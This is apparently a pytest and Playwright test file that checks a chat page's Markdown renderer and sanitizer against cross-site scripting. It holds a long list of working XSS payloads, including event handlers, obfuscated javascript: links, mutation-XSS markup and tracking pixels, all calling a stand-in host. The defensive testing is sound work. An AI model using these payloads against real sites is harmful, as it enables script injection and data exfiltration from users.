"""Answers on the chat page: Markdown as elements, nothing in them that runs or loads anything."""

import json
from collections.abc import Iterator

import pytest
from fastapi import FastAPI
from playwright.sync_api import Browser, Locator, Page, Route, expect
from tests.support.loopback import LoopbackServer

from gateway.chat.page import chat_page_router
from gateway.console.routes import root_router
from gateway.web.console_assets import ConsoleFiles

PUBLISHED = {
    "id": "answers",
    "title": "Answers",
    "description": "",
    "customizations": {"primaryColor": None, "welcomeMessage": "Ask **anything**.", "imageUrl": None},
    "outputConfigs": [],
}
ALARM = "https://elsewhere.example/"
"""Marker that an executed payload sets."""
RUN = "fetch('https://elsewhere.example/ran')"
ANSWER = """# Tea

Some **bold** and `code` and ~~old~~ words,
on two lines. See [the *guide*](https://example.org/tea?a=1&b=2 "Guide") or https://example.org/plain.

| Tea | Minutes |
| :-- | --: |
| green<br>mild | 2 |

1. Water
2. Leaves
   - green

- [x] done

```html
<b>not bold</b>
```

> A quote

Use <b>tags</b> & List<String>.
"""

FORBIDDEN = (
    "script, style, svg, math, iframe, object, embed, form, input, base, meta, template, video, noscript, source"
)
PAYLOADS = [
    # HTML that executes
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>press</text></a></svg>',
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>press</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f'<math><maction actiontype=statusline xlink:href="javascript:{RUN}">press</maction></math>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="https://elsewhere.example/">',
    f"<style>@import '{ALARM}style';</style>",
    f'<link rel=stylesheet href="{ALARM}style">',
    f'<p style="background:url({ALARM}style)">styled</p>',
    # Mutation: markup that a second parse would read differently
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<a id="x"><table><td><a href="javascript:{RUN}">press</a></td></table></a>',
    f"`<img src=x onerror={RUN}>` and ``<svg onload={RUN}>``",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    # Links
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](javascript&colon;{RUN})",
    f"[press](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{RUN})",
    f"[press](&#x6A;avascript:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press](<java\u0000script:{RUN}>)",
    f"[press](<\u0001javascript:{RUN}>)",
    f"[press](java&Tab;script:{RUN})",
    f"[press](java&NewLine;script:{RUN})",
    f"[press](vbscript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5mZXRjaCgxKTwvc2NyaXB0Pg==)",
    f"[press](data:image/svg+xml,<svg onload={RUN}>)",
    "[press](blob:https://elsewhere.example/1)",
    f"[press](x:javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[press][link]\n\n[link]: javascript:{RUN}",
    f'[press](https://example.org "title" onmouseover={RUN})',
    f"[press](https://example.org 'x\" onmouseover=\"{RUN}')",
    f"[![press](x)](javascript:{RUN})",
    f"[<img src=x onerror={RUN}>](https://example.org)",
    f"**[press](javascript:{RUN})**\n\n> - [press](javascript:{RUN})",
    # Images
    f"![x](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f'![x" onerror="{RUN}](x)',
    f'![x](<x" onerror="{RUN}>)',
    f"![x]({ALARM}pixel.png)",
    f'![x]({ALARM}pixel.png?secret=1 "t")',
    "![x](//elsewhere.example/pixel.png)",
    f"<img src={ALARM}pixel.png>",
    f"<picture><source srcset={ALARM}pixel.png><img></picture>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
    f'![x](data:image/png;base64,AAAA" onerror="{RUN})',
    # Tables and headings
    f"| <img src=x onerror={RUN}> |\n| --- |\n| [press](javascript:{RUN}) |",
    f"# <svg onload={RUN}>",
    f"<br onclick={RUN}><br/><br / onload={RUN}>",
]


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    """The gateway's files, and a public chat. Each test decides its answer."""
    app = FastAPI(docs_url=None)
    app.include_router(chat_page_router(ConsoleFiles()))
    app.include_router(root_router("", ConsoleFiles()))
    app.add_api_route("/api/chat/answers", lambda: PUBLISHED, methods=["GET"])
    with LoopbackServer(app, name="chat") as server:
        yield server.origin


class Talk:
    """The chat page, with answers that the test chooses."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.answer = ""
        page.goto("/chat/answers")
        page.route("**/api/chat/**", self._reply)

    def ask(self, answer: str) -> Locator:
        """Receive `answer`; return the message that shows it."""
        self.answer = answer
        self.page.get_by_label("Message", exact=True).fill("Tell me")
        self.page.keyboard.press("Enter")
        message = self.page.locator(".message:not(.mine)").last
        expect(self.page.get_by_label("Send", exact=True)).to_be_visible()
        return message

    def _reply(self, route: Route) -> None:
        if route.request.method != "POST":
            route.fallback()
            return
        frames = [{"blockId": "agent", "chunk": self.answer[at : at + 5]} for at in range(0, len(self.answer), 5)]
        final = {"event": "final", "data": {"success": True, "output": {"content": self.answer}}}
        body = "".join(f"data: {json.dumps(frame)}\n\n" for frame in [*frames, final, "[DONE]"])
        route.fulfill(content_type="text/event-stream", body=body)


@pytest.fixture
def page(browser: Browser, site: str) -> Iterator[Page]:
    """A page as every visitor gets it; violations of its policy fail the test."""
    violations: list[str] = []
    context = browser.new_context(base_url=site)
    page = context.new_page()
    page.on("console", lambda message: violations.append(message.text) if "Content Security" in message.text else None)
    yield page
    context.close()
    assert violations == []


@pytest.fixture
def talk(page: Page) -> Talk:
    """The chat on it."""
    return Talk(page)


class Unprotected(Talk):
    """The page without its Content-Security-Policy, so that only the rendering protects it."""

    def __init__(self, page: Page) -> None:
        self.alarms: list[str] = []
        """Return the executed payloads and foreign requests."""
        page.on("request", lambda request: self.alarms.append(request.url) if ALARM in request.url else None)
        page.on("dialog", lambda dialog: self.alarms.append(dialog.message))
        page.route(f"{ALARM}**", lambda route: route.abort())
        super().__init__(page)


@pytest.fixture(scope="module")
def unprotected(browser: Browser, site: str) -> Iterator[Unprotected]:
    """One page for all payloads."""
    context = browser.new_context(base_url=site, bypass_csp=True)
    yield Unprotected(context.new_page())
    context.close()


def test_the_welcome_is_markdown(talk: Talk) -> None:
    expect(talk.page.locator(".message strong")).to_have_text("anything")


def test_markdown_is_shown_as_elements(talk: Talk) -> None:
    message = talk.ask(ANSWER)
    expect(message.get_by_role("heading", level=2)).to_have_text("Tea")
    expect(message.locator("strong")).to_have_text("bold")
    expect(message.locator("del")).to_have_text("old")
    expect(message.get_by_role("columnheader")).to_have_text(["Tea", "Minutes"])
    expect(message.get_by_role("cell").first).to_have_text("greenmild")
    expect(message.locator("ol > li")).to_have_count(2)
    expect(message.locator("ol ul > li")).to_have_text("green")
    expect(message.get_by_text("☑ done")).to_be_visible()
    expect(message.locator("pre")).to_have_text("<b>not bold</b>\n")
    expect(message.locator("blockquote")).to_have_text("A quote")
    expect(message.get_by_text("Use <b>tags</b> & List<String>.")).to_be_visible()


def test_a_link_opens_a_new_tab_without_a_referrer(talk: Talk) -> None:
    link = talk.ask(ANSWER).get_by_role("link", name="the guide")
    expect(link).to_have_attribute("href", "https://example.org/tea?a=1&b=2")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_an_image_from_elsewhere_is_a_link(talk: Talk) -> None:
    message = talk.ask("![A leaf](https://example.org/leaf.png) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAA)")
    expect(message.get_by_role("link", name="A leaf")).to_have_attribute("href", "https://example.org/leaf.png")
    expect(message.locator("img")).to_have_attribute("alt", "dot")


def test_code_and_tables_are_reached_with_the_keyboard(talk: Talk) -> None:
    message = talk.ask(ANSWER)
    for tag in ("table", "pre"):
        message.locator(tag).focus()
        expect(message.locator(tag)).to_be_focused()


def test_a_definition_at_the_end_makes_links_of_what_came_before(talk: Talk) -> None:
    message = talk.ask("See [tea].\n\nOne.\n\nTwo.\n\nThree.\n\n[tea]: https://example.org/tea\n")
    expect(message.get_by_role("link", name="tea")).to_have_attribute("href", "https://example.org/tea")
    expect(message.get_by_text("Three.")).to_have_count(1)


def test_blocks_that_are_complete_are_not_rendered_again(talk: Talk) -> None:
    result = talk.page.evaluate("""async () => {
        const { Markdown } = await import('/chat/page/markdown.js');
        const target = document.createElement('div');
        const view = new Markdown(target);
        view.append('First.\\n\\nSecond.\\n\\nThird.\\n\\n');
        view.draw();
        const before = [...target.children];
        view.append('Fourth.\\n\\nFifth.\\n\\n');
        view.draw();
        view.finish();
        return [before.length, target.children.length, before.every((node, at) => node === target.children[at])];
    }""")
    assert result == [3, 5, True]


def test_without_the_renderer_an_answer_is_shown_as_plain_text(page: Page) -> None:
    page.route("**/chat/page/markdown.js", lambda route: route.fulfill(status=404))
    message = Talk(page).ask("**bold**\n<img src=x>")
    expect(message.locator(".plain")).to_have_text("**bold**\n<img src=x>")
    expect(message.locator("img")).to_have_count(0)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_an_answer_runs_or_loads(unprotected: Unprotected, payload: str) -> None:
    unprotected.alarms.clear()
    message = unprotected.ask(f"Before.\n\n{payload}\n\nAfter.")
    links = message.get_by_role("link").evaluate_all("links => links.map(link => link.href)")
    assert [href for href in links if not href.startswith(("https://example.org", ALARM))] == []
    attributes = message.evaluate(
        "message => [...message.querySelectorAll('*')].flatMap(node => [...node.attributes].map(each => each.name))"
    )
    assert [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc", "srcset")] == []
    expect(message.locator(FORBIDDEN)).to_have_count(0)
    unprotected.page.evaluate("() => new Promise(done => setTimeout(done, 0))")
    assert unprotected.alarms == []


def test_the_sanitizer_alone_is_sufficient(unprotected: Unprotected) -> None:
    """Raw HTML of an answer never reaches it; this is the second line of defense."""
    unprotected.alarms.clear()
    attributes, forbidden = unprotected.page.evaluate(
        """async ([payloads, forbidden]) => {
            const { nodesOf } = await import('/chat/page/markdown.js');
            const place = document.body.appendChild(document.createElement('div'));
            for (const payload of payloads) place.append(...nodesOf(payload));
            await new Promise(done => setTimeout(done, 100));
            const all = [...place.querySelectorAll('*')];
            return [all.flatMap(node => [...node.attributes].map(each => each.name)),
                    place.querySelectorAll(forbidden).length];
        }""",
        [PAYLOADS, FORBIDDEN],
    )
    assert set(attributes) <= {"align", "alt", "href", "rel", "src", "start", "tabindex", "target", "title"}
    assert forbidden == 0
    assert [url for url in unprotected.alarms if "pixel" not in url] == [], "an image with a source may load here"


@pytest.mark.parametrize("payload", [PAYLOADS[1], PAYLOADS[7], f"<img src={ALARM}pixel.png>"])
def test_the_same_payload_runs_where_nothing_sanitizes_it(unprotected: Unprotected, payload: str) -> None:
    """Executed payloads do set the marker that the tests above check."""
    with unprotected.page.expect_request(f"{ALARM}**"):
        unprotected.page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", payload)
